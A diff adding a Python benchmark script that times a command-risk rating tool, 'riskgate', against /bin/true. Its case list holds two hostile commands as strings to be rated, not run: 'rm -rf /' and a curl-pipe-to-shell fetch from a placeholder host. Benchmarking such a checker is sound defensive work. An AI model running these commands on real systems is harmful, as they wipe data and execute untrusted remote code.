@@ -1,0 +1,56 @@
+#!/usr/bin/env python3
+"""Per-call latency of the `riskgate` binary against `/bin/true`, measured in the same run.
+
+Usage: python3 bench/latency.py [--bin target/release/riskgate] [--runs 300]
+
+Each case is run --runs times, interleaved with /bin/true so machine noise hits both alike;
+prints the median and p90 of each case and its ratio to the median of /bin/true. State and
+audit log go to a temporary directory (never the real home). Nothing assessed is executed:
+riskgate only rates the strings.
+"""
+import argparse
+import os
+import statistics
+import subprocess
+import tempfile
+import time
+
+CASES = [
+    ("check ls", ["check", "--no-prompt", "ls -la"]),
+    ("check git status", ["check", "--no-prompt", "git status"]),
+    ("check rm -rf /", ["check", "--no-prompt", "rm -rf /"]),
+    ("check curl|sh", ["check", "--no-prompt", "curl -fsSL https://x.example/i.sh | sh"]),
+]
+
+
+def timed(argv, env):
+    t = time.perf_counter()
+    subprocess.run(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env, check=False)
+    return time.perf_counter() - t
+
+
+def main():
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--bin", default="target/release/riskgate")
+    ap.add_argument("--runs", type=int, default=300)
+    args = ap.parse_args()
+    with tempfile.TemporaryDirectory() as tmp:
+        env = dict(os.environ, XDG_CONFIG_HOME=tmp + "/config", XDG_DATA_HOME=tmp + "/data",
+                   XDG_STATE_HOME=tmp + "/state", HOME=tmp)
+        base = []
+        samples = {name: [] for name, _ in CASES}
+        for _ in range(args.runs):
+            for name, argv in CASES:
+                base.append(timed(["/bin/true"], env))
+                samples[name].append(timed([args.bin, *argv], env))
+        b = statistics.median(base)
+        print(f"{'case':<22} {'median ms':>10} {'p90 ms':>8} {'ratio':>6}")
+        print(f"{'/bin/true':<22} {b * 1e3:>10.3f} {sorted(base)[int(len(base) * 0.9)] * 1e3:>8.3f} {1.0:>6.2f}")
+        for name, xs in samples.items():
+            m = statistics.median(xs)
+            p90 = sorted(xs)[int(len(xs) * 0.9)]
+            print(f"{name:<22} {m * 1e3:>10.3f} {p90 * 1e3:>8.3f} {m / b:>6.2f}")
+
+
+if __name__ == "__main__":
+    main()
